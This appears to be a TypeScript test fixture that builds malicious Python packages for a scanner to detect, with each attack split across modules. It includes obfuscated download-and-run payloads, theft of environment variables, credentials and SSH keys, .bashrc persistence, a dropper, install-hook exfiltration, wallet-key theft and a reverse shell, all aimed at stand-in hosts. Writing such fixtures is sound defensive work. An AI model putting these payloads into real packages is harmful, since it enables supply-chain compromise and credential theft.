import { b64, type Files } from './kit.ts';

/** A wheel of several modules. */
function wheel(files: Files): Files {
  return {
    'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
    'own/__init__.py': '',
    ...files,
  };
}

/** A source distribution of several modules, whose setup script has some code in front of its call. */
function sdist(code: string, files: Files): Files {
  return {
    'PKG-INFO': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
    'own/__init__.py': '',
    'setup.py': `${code}\nfrom setuptools import setup\nsetup(name='own', version='1.0', packages=['own'])\n`,
    ...files,
  };
}

const PAYLOAD = b64("import os\nos.system('curl http://a.example/i | sh')");
/** What is decoded with a key of one byte. */
const XORED = Array.from("import os\nos.system('curl http://a.example/i | sh')", (c) => c.charCodeAt(0) ^ 7);

/** Attacks whose pieces lie in several modules of one package: each alone is what any library has. */
export const MODULES: Readonly<Record<string, Files>> = {
  'const-from-config': wheel({
    'own/config.py': "ENDPOINT = 'https://a.example/c'\n",
    'own/__init__.py':
      'import os\nimport requests\nfrom .config import ENDPOINT\nrequests.post(ENDPOINT, json=dict(os.environ))\n',
  }),
  'const-absolute': wheel({
    'own/settings.py': `BLOB = '${PAYLOAD}'\n`,
    'own/__init__.py': 'import base64\nfrom own.settings import BLOB\nexec(base64.b64decode(BLOB))\n',
  }),
  'const-module': wheel({
    'own/_data.py': `BLOB = b'${PAYLOAD}'\n`,
    'own/__init__.py': 'import base64\nfrom . import _data\nexec(base64.b64decode(_data.BLOB))\n',
  }),
  'const-import-as': wheel({
    'own/_data.py': `BLOB = b'${PAYLOAD}'\n`,
    'own/__init__.py': 'import base64\nimport own._data as d\nexec(base64.b64decode(d.BLOB))\n',
  }),
  'const-dotted': wheel({
    'own/_data.py': `BLOB = b'${PAYLOAD}'\n`,
    'own/__init__.py': 'import base64\nimport own._data\nexec(base64.b64decode(own._data.BLOB))\n',
  }),
  'const-star': wheel({
    'own/_data.py': `BLOB = b'${PAYLOAD}'\n`,
    'own/__init__.py': 'import base64\nfrom ._data import *\nexec(base64.b64decode(BLOB))\n',
  }),
  'const-class': wheel({
    'own/config.py': `class Settings:\n    BLOB = '${PAYLOAD}'\n\nsettings = Settings()\n`,
    'own/__init__.py':
      'import base64\nfrom own.config import settings\nexec(base64.b64decode(settings.BLOB))\n',
  }),
  'const-dict': wheel({
    'own/config.py': `CONFIG = {'stage': {'blob': '${PAYLOAD}'}}\n`,
    'own/__init__.py':
      "import base64\nfrom .config import CONFIG\nexec(base64.b64decode(CONFIG['stage']['blob']))\n",
  }),
  'const-split': wheel({
    'own/a.py': `PART = '${PAYLOAD.slice(0, 20)}'\n`,
    'own/b.py': `PART = '${PAYLOAD.slice(20)}'\n`,
    'own/__init__.py': 'import base64\nfrom . import a, b\nexec(base64.b64decode(a.PART + b.PART))\n',
  }),
  'const-dataclass': wheel({
    'own/config.py': `from dataclasses import dataclass\n\n@dataclass(frozen=True)\nclass Config:\n    blob: str = '${PAYLOAD}'\n    retries: int = 3\n`,
    'own/__init__.py': 'import base64\nfrom .config import Config\nexec(base64.b64decode(Config().blob))\n',
  }),
  'const-key': wheel({
    'own/keys.py': 'KEY = 7\n',
    'own/blob.py': `DATA = ${JSON.stringify(XORED)}\n`,
    'own/__init__.py':
      'from .blob import DATA\nfrom .keys import KEY\nexec(bytes(b ^ KEY for b in DATA).decode())\n',
  }),
  'const-command': wheel({
    'own/constants.py': "UPDATE = 'curl -s http://a.example/i | sh'\n",
    'own/__init__.py':
      'import subprocess\nfrom .constants import UPDATE\nsubprocess.Popen(UPDATE, shell=True)\n',
  }),
  'const-persist': wheel({
    'own/constants.py': "TARGET = '~/.bashrc'\nLINE = '\\ncurl -s http://a.example/i | sh\\n'\n",
    'own/__init__.py':
      "import os\nfrom .constants import LINE, TARGET\nwith open(os.path.expanduser(TARGET), 'a') as f:\n    f.write(LINE)\n",
  }),
  'const-credential': wheel({
    'own/paths.py': "PATHS = ['~/.aws/credentials', '~/.ssh/id_rsa', '~/.git-credentials']\n",
    'own/__init__.py':
      "import os\nimport requests\nfrom own.paths import PATHS\nfor p in PATHS:\n    p = os.path.expanduser(p)\n    if os.path.exists(p):\n        with open(p) as f:\n            requests.post('https://a.example/c', data=f.read())\n",
  }),
  'func-send': wheel({
    'own/transport.py':
      "import requests\n\ndef deliver(payload: dict) -> bool:\n    response = requests.post('https://a.example/c', json=payload, timeout=5)\n    return response.ok\n",
    'own/__init__.py':
      'import os\nfrom own.transport import deliver\ndeliver({k: v for k, v in os.environ.items()})\n',
  }),
  'func-collect': wheel({
    'own/utils.py': 'import os\n\ndef snapshot() -> dict:\n    return dict(os.environ)\n',
    'own/__init__.py':
      "import requests\nfrom own.utils import snapshot\nrequests.post('https://a.example/c', json=snapshot())\n",
  }),
  'func-both': wheel({
    'own/collect.py':
      "import os\nfrom pathlib import Path\n\ndef gather():\n    out = {}\n    for name in ('.aws/credentials', '.ssh/id_rsa'):\n        path = Path.home() / name\n        if path.exists():\n            out[name] = path.read_text()\n    return out\n",
    'own/net.py':
      "import json\nimport urllib.request\n\ndef push(data):\n    req = urllib.request.Request('https://a.example/c', data=json.dumps(data).encode())\n    with urllib.request.urlopen(req, timeout=5):\n        pass\n",
    'own/__init__.py': 'from own.collect import gather\nfrom own.net import push\npush(gather())\n',
  }),
  'func-decode': wheel({
    'own/codec.py':
      'import base64, zlib\n\ndef unpack(data: bytes, key: int = 7) -> str:\n    return bytes(b ^ key for b in base64.b85decode(data)).decode()\n',
    'own/__init__.py': `from own.codec import unpack\nexec(unpack(b'${asBase85(XORED)}'))\n`,
  }),
  'func-decode-xor': wheel({
    'own/codec.py':
      "def reveal(data, key):\n    out = []\n    for i, value in enumerate(data):\n        out.append(chr(value ^ key))\n    return ''.join(out)\n",
    'own/__init__.py': `from .codec import reveal\nexec(reveal(${JSON.stringify(XORED)}, 7))\n`,
  }),
  'func-run': wheel({
    'own/shell.py':
      'import subprocess\n\ndef execute(command, **options):\n    return subprocess.run(command, shell=True, **options)\n',
    'own/__init__.py':
      "from own.shell import execute\nexecute('curl -s http://a.example/i | sh', check=False)\n",
  }),
  'func-download-run': wheel({
    'own/fetch.py':
      'import urllib.request\n\ndef fetch(url: str) -> bytes:\n    with urllib.request.urlopen(url) as response:\n        return response.read()\n',
    'own/__init__.py': "from own.fetch import fetch\nexec(fetch('https://a.example/p.py'))\n",
  }),
  'func-dropper': wheel({
    'own/fetch.py':
      'import urllib.request\n\ndef save(url, path):\n    urllib.request.urlretrieve(url, path)\n    return path\n',
    'own/launch.py':
      'import os\nimport subprocess\n\ndef launch(path):\n    os.chmod(path, 0o755)\n    subprocess.Popen([path], start_new_session=True)\n',
    'own/__init__.py':
      "from own.fetch import save\nfrom own.launch import launch\nlaunch(save('https://a.example/agent', '/tmp/.agent'))\n",
  }),
  'func-reexport': wheel({
    'own/compat.py': 'from subprocess import run as call\nfrom base64 import b64decode as decode\n',
    'own/__init__.py': `from .compat import call, decode\ncall(decode('${b64('curl -s http://a.example/i | sh')}').decode(), shell=True)\n`,
  }),
  'func-exec-alias': wheel({
    'own/compat.py': 'import builtins\nrun_text = builtins.exec\n',
    'own/__init__.py': `import base64\nfrom own.compat import run_text\nrun_text(base64.b64decode('${PAYLOAD}'))\n`,
  }),
  'class-client': wheel({
    'own/client.py':
      'import requests\n\nclass TelemetryClient:\n    def __init__(self, url, timeout=5):\n        self.url = url\n        self.session = requests.Session()\n        self.timeout = timeout\n\n    def report(self, event):\n        return self.session.post(self.url, json=event, timeout=self.timeout)\n',
    'own/__init__.py':
      "import os\nfrom own.client import TelemetryClient\nclient = TelemetryClient('https://a.example/c')\nclient.report({'env': dict(os.environ)})\n",
  }),
  'class-base': wheel({
    'own/base.py':
      'import requests\n\nclass BaseReporter:\n    url = None\n    def collect(self):\n        raise NotImplementedError\n    def run(self):\n        requests.post(self.url, json=self.collect())\n',
    'own/__init__.py':
      "import os\nfrom .base import BaseReporter\n\nclass Reporter(BaseReporter):\n    url = 'https://a.example/c'\n    def collect(self):\n        return dict(os.environ)\n\nReporter().run()\n",
  }),
  'class-context': wheel({
    'own/session.py':
      'import requests\n\nclass Channel:\n    def __init__(self, url):\n        self.url = url\n    def __enter__(self):\n        return self\n    def __exit__(self, *exc):\n        return False\n    def send(self, body):\n        requests.post(self.url, data=body)\n',
    'own/__init__.py':
      "import os\nfrom own.session import Channel\nwith Channel('https://a.example/c') as channel:\n    channel.send(open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
  }),
  'decorator-retry': wheel({
    'own/retry.py':
      'import functools\nimport time\n\ndef retry(times=3):\n    def outer(func):\n        @functools.wraps(func)\n        def inner(*args, **kwargs):\n            for attempt in range(times):\n                try:\n                    return func(*args, **kwargs)\n                except Exception:\n                    time.sleep(1)\n        return inner\n    return outer\n',
    'own/__init__.py':
      "import os\nimport requests\nfrom own.retry import retry\n\n@retry(times=2)\ndef report(data):\n    requests.post('https://a.example/c', json=data)\n\nreport(dict(os.environ))\n",
  }),
  'registry-plugins': wheel({
    'own/registry.py':
      'PLUGINS = []\n\ndef register(func):\n    PLUGINS.append(func)\n    return func\n\ndef run_all(context):\n    for plugin in PLUGINS:\n        plugin(context)\n',
    'own/plugins.py':
      "import requests\nfrom .registry import register\n\n@register\ndef upload(context):\n    requests.post('https://a.example/c', json=context)\n",
    'own/__init__.py':
      'import os\nfrom . import plugins\nfrom .registry import run_all\nrun_all(dict(os.environ))\n',
  }),
  'callback-hook': wheel({
    'own/events.py': 'def emit(handler, payload):\n    handler(payload)\n',
    'own/__init__.py':
      "import os\nimport requests\nfrom .events import emit\nemit(lambda data: requests.post('https://a.example/c', json=data), dict(os.environ))\n",
  }),
  'thread-helper': wheel({
    'own/background.py':
      'import threading\n\ndef in_background(func, *args):\n    thread = threading.Thread(target=func, args=args, daemon=True)\n    thread.start()\n    return thread\n',
    'own/__init__.py':
      "import os\nimport requests\nfrom own.background import in_background\n\ndef ship(data):\n    requests.post('https://a.example/c', json=data)\n\nin_background(ship, dict(os.environ))\n",
  }),
  'async-helper': wheel({
    'own/aio.py':
      'import aiohttp\n\nasync def post(url, payload):\n    async with aiohttp.ClientSession() as session:\n        async with session.post(url, json=payload) as response:\n            return await response.text()\n',
    'own/__init__.py':
      "import asyncio\nimport os\nfrom own.aio import post\n\nasync def main():\n    await post('https://a.example/c', dict(os.environ))\n\nasyncio.run(main())\n",
  }),
  'generator-helper': wheel({
    'own/scan.py':
      "import os\n\ndef secrets(names=('.aws/credentials', '.npmrc', '.pypirc')):\n    home = os.path.expanduser('~')\n    for name in names:\n        path = os.path.join(home, name)\n        if os.path.isfile(path):\n            with open(path) as handle:\n                yield name, handle.read()\n",
    'own/__init__.py':
      "import requests\nfrom own.scan import secrets\nfor name, text in secrets():\n    requests.post('https://a.example/c', data={'n': name, 't': text})\n",
  }),
  'pipeline-steps': wheel({
    'own/steps.py':
      'import base64\nimport json\nimport os\nimport zlib\n\ndef collect():\n    return dict(os.environ)\n\ndef encode(data):\n    return base64.b64encode(zlib.compress(json.dumps(data).encode())).decode()\n',
    'own/sink.py':
      "import urllib.request\n\ndef deliver(text):\n    urllib.request.urlopen('https://a.example/c?d=' + text)\n",
    'own/__init__.py':
      'from own.steps import collect, encode\nfrom own.sink import deliver\n\ndef run():\n    value = collect()\n    for step in (encode, deliver):\n        value = step(value)\n\nrun()\n',
  }),
  'partial-helper': wheel({
    'own/net.py':
      "import functools\nimport requests\n\npost = functools.partial(requests.post, 'https://a.example/c', timeout=3)\n",
    'own/__init__.py': 'import os\nfrom .net import post\npost(json=dict(os.environ))\n',
  }),
  'singleton-helper': wheel({
    'own/state.py':
      "import requests\n\nclass _Client:\n    def emit(self, data):\n        requests.post('https://a.example/c', json=data)\n\nclient = _Client()\n",
    'own/__init__.py': 'import os\nfrom own.state import client\nclient.emit(dict(os.environ))\n',
  }),
  'subpackage-deep': wheel({
    'own/core/__init__.py': '',
    'own/core/net/__init__.py': '',
    'own/core/net/http.py': 'import requests\n\ndef put(url, data):\n    requests.put(url, data=data)\n',
    'own/core/env.py': 'import os\n\ndef read():\n    return str(os.environ)\n',
    'own/__init__.py':
      "from own.core.env import read\nfrom own.core.net import http\nhttp.put('https://a.example/c', read())\n",
  }),
  'parent-import': wheel({
    'own/config.py': "URL = 'https://a.example/c'\n",
    'own/core/__init__.py': '',
    'own/core/start.py':
      'import os\nimport requests\nfrom ..config import URL\n\ndef start():\n    requests.post(URL, json=dict(os.environ))\n',
    'own/__init__.py': 'from .core.start import start\nstart()\n',
  }),
  'init-reexport': wheel({
    'own/core/__init__.py': 'from .net import push\nfrom .env import read\n',
    'own/core/net.py':
      "import requests\n\ndef push(data):\n    requests.post('https://a.example/c', json=data)\n",
    'own/core/env.py': 'import os\n\ndef read():\n    return dict(os.environ)\n',
    'own/__init__.py': 'from own.core import push, read\npush(read())\n',
  }),
  'sibling-package': wheel({
    'ownlib/__init__.py': '',
    'ownlib/net.py':
      "import requests\n\ndef push(data):\n    requests.post('https://a.example/c', json=data)\n",
    'own/__init__.py': 'import os\nfrom ownlib.net import push\npush(dict(os.environ))\n',
  }),
  'setup-helper': sdist('import _helper\n_helper.run(_helper.COMMAND)', {
    '_helper.py':
      "import os\nCOMMAND = 'curl -s http://a.example/i | sh'\n\ndef run(command):\n    os.system(command)\n",
  }),
  'setup-package': sdist('from own._build import prepare\nprepare()', {
    'own/_const.py': `BLOB = '${PAYLOAD}'\n`,
    'own/_build.py':
      'import base64\nfrom own._const import BLOB\n\ndef prepare():\n    exec(base64.b64decode(BLOB))\n',
  }),
  'setup-command-elsewhere': {
    'PKG-INFO': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
    'own/__init__.py': '',
    'own/_const.py': "URL = 'https://a.example/c'\n",
    'own/_cmd.py':
      'import os\nimport requests\nfrom setuptools.command.install import install\nfrom own._const import URL\n\nclass Install(install):\n    def run(self):\n        super().run()\n        requests.post(URL, json=dict(os.environ))\n',
    'setup.py':
      "from setuptools import setup\nfrom own._cmd import Install\nsetup(name='own', version='1.0', packages=['own'], cmdclass={'install': Install})\n",
  },
  'called-late': wheel({
    'own/config.py': "ENDPOINT = 'https://a.example/c'\n",
    'own/api.py':
      'import os\nimport requests\nfrom own.config import ENDPOINT\n\nclass Api:\n    def login(self, user, password):\n        requests.post(ENDPOINT, json={"e": dict(os.environ)})\n        return True\n',
    'own/__init__.py': 'from own.api import Api\n',
  }),
  'wallet-late': wheel({
    'own/constants.py': "RPC = 'https://a.example/rpc'\n",
    'own/wallet.py':
      'import requests\nfrom .constants import RPC\n\ndef sign(private_key, tx):\n    requests.post(RPC, json={"k": private_key})\n    return tx\n',
    'own/__init__.py': 'from .wallet import sign\n',
  }),
  'telegram-config': wheel({
    'own/config.py': `BOT = '1234567890:${'A'.repeat(35)}'\nCHAT = '55'\nAPI = f'https://messenger.weir.test/bot{BOT}/sendMessage'\n`,
    'own/__init__.py':
      "import getpass, socket\nimport requests\nfrom own.config import API, CHAT\nrequests.post(API, data={'chat_id': CHAT, 'text': f'{getpass.getuser()}@{socket.gethostname()}'})\n",
  }),
  'powershell-config': wheel({
    'own/const.py':
      "ARGS = ['powershell', '-NoProfile', '-WindowStyle', 'Hidden', '-Command']\nSCRIPT = 'iwr http://a.example/x.ps1 | iex'\n",
    'own/__init__.py':
      'import subprocess\nfrom .const import ARGS, SCRIPT\nsubprocess.Popen(ARGS + [SCRIPT])\n',
  }),
  'factory-module': wheel({
    'own/factory.py': 'import importlib\n\ndef load(name):\n    return importlib.import_module(name)\n',
    'own/__init__.py': "from own.factory import load\nload('os').system('curl -s http://a.example/i | sh')\n",
  }),
  'getattr-module': wheel({
    'own/names.py': "MODULE = 'o' + 's'\nFUNC = 'sys' + 'tem'\n",
    'own/__init__.py':
      "from own.names import FUNC, MODULE\ngetattr(__import__(MODULE), FUNC)('curl -s http://a.example/i | sh')\n",
  }),
  'reverse-shell-config': wheel({
    'own/conf.py': "HOST, PORT = '203.0.113.9', 4444\n",
    'own/__init__.py':
      "import os, pty, socket\nfrom own.conf import HOST, PORT\ns = socket.socket()\ns.connect((HOST, PORT))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn('/bin/sh')\n",
  }),
};

/** What `base64.b85encode` gives. */
function asBase85(values: readonly number[]): string {
  const alphabet = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~';
  const padding = (4 - (values.length % 4)) % 4;
  const all = [...values, ...Array.from({ length: padding }, () => 0)];
  let text = '';
  for (let at = 0; at < all.length; at += 4) {
    let word = all.slice(at, at + 4).reduce((sum, value) => sum * 256 + value, 0);
    let piece = '';
    for (let digit = 0; digit < 5; digit++) {
      piece = (alphabet[word % 85] ?? '') + piece;
      word = Math.floor(word / 85);
    }
    text += piece;
  }
  return padding === 0 ? text : text.slice(0, -padding);
}
